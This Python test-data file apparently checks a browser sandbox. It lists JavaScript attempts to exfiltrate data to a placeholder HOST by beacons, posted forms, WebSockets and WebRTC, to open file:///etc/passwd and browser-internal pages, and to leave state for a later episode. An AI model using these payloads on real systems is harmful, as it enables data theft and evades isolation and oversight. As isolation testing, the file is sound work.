"""Ways out of a website, tried from inside its pages; and ways for one episode to leave something to the next."""

from dataclasses import dataclass


@dataclass(frozen=True, slots=True)
class Escape:
    """A script that a click sets off; URL is an address outside the website, HOST its host and port."""

    name: str
    script: str
    url: str = "http://HOST/x"
    """The address tried."""
    trace: str = "HOST"
    """What the record of refusals must hold; empty: Chromium itself says nothing of it."""
    reaches_listener: bool = True
    """Whether it gets to the listener where that is allowed: what shows that the attempt is a real one."""


def _element(tag: str, **attributes: str) -> str:
    pairs = ", ".join(f"{name}: {value}" for name, value in attributes.items())
    return f"document.body.append(Object.assign(document.createElement('{tag}'), {{{pairs}}}))"


def _markup(html: str) -> str:
    return f"document.body.insertAdjacentHTML('beforeend', `{html}`)"


def _in_worker(script: str) -> str:
    return f"new Worker(URL.createObjectURL(new Blob([`const URL_ = '${{URL_}}'; {script}`])))"


def _rules(kind: str) -> str:
    rules = "JSON.stringify({KIND: [{urls: [URL_], eagerness: 'immediate'}]})".replace("KIND", kind)
    return _element("script", type="'speculationrules'", textContent=rules)


ESCAPES = [
    Escape("image", "new Image().src = URL_"),
    Escape("image of a set", _markup("<img srcset='${URL_} 1x'>")),
    Escape("script", _element("script", src="URL_")),
    Escape("module", "import(URL_)"),
    Escape("style sheet", _element("link", rel="'stylesheet'", href="URL_")),
    Escape("imported style", _markup("<style>@import url(${URL_})</style>")),
    Escape("background", "document.body.style.background = `url(${URL_})`"),
    Escape("font", "new FontFace('f', `url(${URL_})`).load()"),
    Escape("fetch", "fetch(URL_, {mode: 'no-cors'})"),
    Escape(
        "fetch without credentials",
        "fetch(URL_, {mode: 'no-cors', credentials: 'omit', referrerPolicy: 'no-referrer'})",
    ),
    Escape("XMLHttpRequest", "const x = new XMLHttpRequest(); x.open('POST', URL_); x.send('secret')"),
    Escape("beacon", "navigator.sendBeacon(URL_, 'secret')"),
    Escape("event source", "new EventSource(URL_)"),
    Escape("frame", _element("iframe", src="URL_")),
    Escape("frame that is sandboxed", _markup("<iframe sandbox='allow-scripts' srcdoc='<img src=${URL_}>'></iframe>")),
    Escape("frame of data", _markup("<iframe src='data:text/html,<img src=${URL_}>'></iframe>")),
    Escape("object", _element("object", data="URL_")),
    Escape("embed", _element("embed", src="URL_")),
    Escape("video", _markup("<video src='${URL_}' preload=auto></video>")),
    Escape("poster", _markup("<video poster='${URL_}'></video>")),
    Escape("drawing's image", _markup("<svg><image href='${URL_}'/></svg>")),
    Escape("prefetch", _element("link", rel="'prefetch'", href="URL_")),
    Escape("preload", _markup("<link rel=preload as=image href='${URL_}'>")),
    Escape("preconnect", _element("link", rel="'preconnect'", href="URL_"), "https://HOST/", "", False),
    Escape("prerender", _rules("prerender"), trace="", reaches_listener=False),
    Escape("prefetch by rules", _rules("prefetch"), trace="", reaches_listener=False),
    Escape("WebSocket", "new WebSocket(URL_)", "ws://HOST/x"),
    Escape("WebSocket over TLS", "new WebSocket(URL_)", "wss://HOST/x"),
    Escape("WebSocket in a worker", _in_worker("new WebSocket(URL_)"), "ws://HOST/x"),
    Escape("worker", _in_worker("fetch(URL_, {mode: `no-cors`})".replace("`", "\\`"))),
    Escape("worker's script", _in_worker("importScripts(URL_)")),
    Escape("shared worker", "new SharedWorker('/worker.js?' + encodeURIComponent(URL_))"),
    Escape(
        "service worker",
        "ServiceWorkerContainer.prototype.register.call(navigator.serviceWorker, `/worker.js?${URL_}`)",
        trace="",
        reaches_listener=False,
    ),
    Escape("navigation", "location = URL_"),
    Escape("navigation over TLS", "location = URL_", "https://HOST/x"),
    Escape("new tab", "window.open(URL_)"),
    Escape("new tab without opener", "window.open(URL_, '_blank', 'noopener')"),
    Escape(
        "form", _markup("<form id=f method=post action='${URL_}'><input name=q value=secret></form>") + "; f.submit()"
    ),
    Escape(
        "form into a frame",
        _markup("<iframe name=n></iframe><form id=f target=n action='${URL_}'></form>") + "; f.submit()",
    ),
    Escape("ping of a link", _markup("<a id=a href='#' ping='${URL_}'>x</a>") + "; a.click()"),
    Escape(
        "meta refresh",
        "document.head.insertAdjacentHTML('beforeend', `<meta http-equiv=refresh content='0;url=${URL_}'>`)",
    ),
    Escape("download", _markup("<a id=a href='${URL_}' download>x</a>") + "; a.click()"),
    Escape("redirect of the page", "location = '/redirect'"),
    Escape("redirect of an image", "new Image().src = '/redirect'"),
    Escape("redirect of a fetch", "fetch('/redirect', {mode: 'no-cors'})"),
    Escape("redirect of a frame", _element("iframe", src="'/redirect'")),
    Escape("redirect of a form", _markup("<form id=f method=post action='/redirect'></form>") + "; f.submit()"),
    Escape(
        "as the page goes", "onpagehide = () => fetch(URL_, {mode: 'no-cors', keepalive: true}); location = '/next'"
    ),
    Escape("beacon as the page goes", "onpagehide = () => navigator.sendBeacon(URL_); location = '/next'"),
    Escape("report of a policy", "location = '/policy'"),
    Escape("name before the host", "location = URL_", "http://test.localhost@HOST/x"),
    Escape("address as a number", "fetch(URL_, {mode: 'no-cors'})", "http://2130706433:PORT/x", trace="127.0.0.1:PORT"),
    Escape("address in hexadecimal", "fetch(URL_, {mode: 'no-cors'})", "http://0x7f.1:PORT/x", trace="127.0.0.1:PORT"),
    Escape("no address at all", "fetch(URL_, {mode: 'no-cors'})", "http://0.0.0.0:PORT/x", trace="0.0.0.0:PORT"),
    Escape("address mapped", "location = URL_", "http://[::ffff:127.0.0.1]:PORT/x", ":PORT", False),
    Escape(
        "another port of its own host",
        "fetch(URL_, {mode: 'no-cors'})",
        "http://test.localhost:PORT/x",
        trace="test.localhost:PORT",
    ),
    Escape(
        "WebRTC, address look-up",
        "const p = new RTCPeerConnection({iceServers: [{urls: 'stun:HOST'}]}); p.createDataChannel('x'); "
        "p.createOffer().then(o => p.setLocalDescription(o))",
        trace="",
        reaches_listener=False,
    ),
    Escape(
        "WebRTC, relay",
        "const p = new RTCPeerConnection({iceServers: [{urls: ['turn:HOST', 'turn:HOST?transport=tcp'], username: 'u', "
        "credential: 'c'}]}); p.createDataChannel('x'); p.createOffer().then(o => p.setLocalDescription(o))",
    ),
    Escape("WebTransport", "new WebTransport(URL_)", "https://HOST/x", reaches_listener=False),
    Escape(
        "name looked up ahead",
        _element("link", rel="'dns-prefetch'", href="URL_"),
        "http://NAME/",
        trace="",
        reaches_listener=False,
    ),
    Escape(
        "name looked up for a connection",
        _element("link", rel="'preconnect'", href="URL_"),
        "http://NAME/",
        "",
        False,
    ),
    Escape("name looked up for a frame", _element("iframe", src="URL_"), "https://NAME/", "NAME", False),
    Escape("file", "location = URL_", "file:///etc/passwd", "file:///etc/passwd", False),
    Escape("file in a frame", _element("iframe", src="URL_"), "file:///etc/passwd", "file:///etc/passwd", False),
    Escape("file in a new tab", "window.open(URL_)", "file:///etc/passwd", "file:///etc/passwd", False),
    Escape("file fetched", "fetch(URL_)", "file:///etc/passwd", "file:///etc/passwd", False),
    Escape("file by redirect", "location = '/redirect'", "file:///etc/passwd", "redirect", False),
    Escape("browser's own page", "location = URL_", "chrome://version/", "chrome://version/", False),
    Escape(
        "browser's own page in a frame", _element("iframe", src="URL_"), "chrome://version/", "chrome://version/", False
    ),
    Escape("source of a page", "location = URL_", "view-source:http://HOST/", "view-source:", False),
    Escape("developer tools", "location = URL_", "devtools://devtools/bundled/inspector.html", "devtools://", False),
    Escape("page of data", "location = URL_", "data:text/html,<title>escaped</title>", "data:text/html", False),
    Escape(
        "page of data by redirect", "location = '/redirect'", "data:text/html,<title>escaped</title>", "redirect", False
    ),
]


@dataclass(frozen=True, slots=True)
class Probe:
    """What one episode leaves, and how the next one looks for it; `read` is given what `plant` came to."""

    name: str
    plant: str
    read: str
    at_once: bool = False
    """Whether the other episode looks while the first is still there."""
    granted: str = ""
    """A permission that the first episode is granted."""


_DATABASE = """new Promise((done, fail) => { const r = indexedDB.open("d", 1);
r.onupgradeneeded = () => r.result.createObjectStore("s"); r.onsuccess = () => done(r.result); r.onerror = fail })"""
_ECHO = "fetch('/echo').then(r => r.text()).then(t => t.includes('PLANTED'))"

PROBES = [
    Probe(
        "permission",
        "0",
        "navigator.permissions.query({name: 'geolocation'}).then(p => p.state === 'granted')",
        granted="geolocation",
    ),
    Probe(
        "permission at once",
        "0",
        "navigator.permissions.query({name: 'geolocation'}).then(p => p.state === 'granted')",
        at_once=True,
        granted="geolocation",
    ),
    Probe(
        "service worker",
        "ServiceWorkerContainer.prototype.register.call(navigator.serviceWorker, '/worker.js').then(() => 1)",
        "navigator.serviceWorker.getRegistrations().then(r => r.length > 0)",
    ),
    Probe("cookie", "document.cookie = 'k=PLANTED'", "document.cookie.includes('PLANTED')"),
    Probe("lasting cookie", "document.cookie = 'k=PLANTED; max-age=9999'", "document.cookie.includes('PLANTED')"),
    Probe("cookie sent back", "document.cookie = 'k=PLANTED'", _ECHO),
    Probe("cookie that scripts can't see", "fetch('/cookie')", _ECHO),
    Probe("cookie of a path", "document.cookie = 'k=PLANTED; path=/echo'", _ECHO),
    Probe("cookie at once", "document.cookie = 'k=PLANTED'", _ECHO, at_once=True),
    Probe("local storage", "localStorage.k = 'PLANTED'", "localStorage.k === 'PLANTED'"),
    Probe("local storage at once", "localStorage.k = 'PLANTED'", "localStorage.k === 'PLANTED'", at_once=True),
    Probe("session storage", "sessionStorage.k = 'PLANTED'", "sessionStorage.k === 'PLANTED'"),
    Probe(
        "database",
        f"{_DATABASE}.then(d => new Promise(done => {{ const t = d.transaction('s', 'readwrite'); "
        "t.objectStore('s').put('PLANTED', 'k'); t.oncomplete = () => { d.close(); done() } }))",
        f"{_DATABASE}.then(d => new Promise(done => {{ const r = d.transaction('s').objectStore('s').get('k'); "
        "r.onsuccess = () => { d.close(); done(r.result === 'PLANTED') } }))",
    ),
    Probe("names of databases", f"{_DATABASE}.then(d => d.close())", "indexedDB.databases().then(d => d.length > 0)"),
    Probe(
        "cache of a script",
        "caches.open('c').then(c => c.put('/k', new Response('PLANTED')))",
        "caches.match('/k').then(r => Boolean(r))",
    ),
    Probe(
        "private file system",
        "navigator.storage.getDirectory().then(d => d.getFileHandle('k', {create: true})).then(() => 1)",
        "navigator.storage.getDirectory().then(d => d.getFileHandle('k')).then(() => true, () => false)",
    ),
    Probe(
        "use of storage",
        "caches.open('c').then(c => c.put('/k', new Response('x'.repeat(1e6))))",
        "navigator.storage.estimate().then(e => e.usage > 5e5)",
    ),
    Probe(
        "cache of answers",
        "fetch('/cached').then(r => r.text())",
        "fetch('/cached').then(r => r.text()).then(t => t === planted)",
    ),
    Probe(
        "cache of answers at once",
        "fetch('/cached').then(r => r.text())",
        "fetch('/cached').then(r => r.text()).then(t => t === planted)",
        at_once=True,
    ),
    Probe(
        "mark of an answer",
        "fetch('/tagged').then(r => r.text())",
        "fetch('/tagged').then(r => r.text()).then(() => fetch('/told')).then(r => r.text()).then(t => t === 'yes')",
    ),
    Probe(
        "lasting redirect",
        "fetch('/moved').then(r => r.text())",
        "fetch('/moved').then(r => r.text()).then(t => t === planted)",
    ),
    Probe(
        "script kept",
        "import('/counted.js').then(m => m.number)",
        "import('/counted.js').then(m => m.number === planted)",
    ),
    Probe(
        "user name and password",
        "new Promise(done => { const x = new XMLHttpRequest(); x.open('GET', '/secret', true, 'PLANTED', 'x'); "
        "x.onloadend = () => done(x.status); x.send() })",
        "fetch('/secret').then(r => r.status === 200)",
    ),
    Probe("name of the window", "window.name = 'PLANTED'", "window.name === 'PLANTED'"),
    Probe("history", "history.pushState(0, '', '/#planted')", "history.length > 2 || location.hash === '#planted'"),
    Probe("page before", "history.pushState('PLANTED', '')", "history.state === 'PLANTED'"),
    Probe(
        "broadcast",
        "(globalThis.channel = new BroadcastChannel('c')).onmessage = e => channel.postMessage('PLANTED')",
        "new Promise(done => { const c = new BroadcastChannel('c'); c.onmessage = e => done(e.data === 'PLANTED'); "
        "c.postMessage('?'); setTimeout(() => done(false), 300) })",
        at_once=True,
    ),
    Probe(
        "lock",
        "new Promise(got => navigator.locks.request('l', () => { got(); return new Promise(() => 0) }))",
        "navigator.locks.query().then(q => q.held.length > 0)",
        at_once=True,
    ),
    Probe(
        "shared worker",
        "(globalThis.worker = new SharedWorker('/shared.js')).port.postMessage('PLANTED')",
        "new Promise(done => { const w = new SharedWorker('/shared.js'); "
        "w.port.onmessage = e => done(e.data === 'PLANTED'); w.port.postMessage('?'); "
        "setTimeout(() => done(false), 500) })",
        at_once=True,
    ),
]
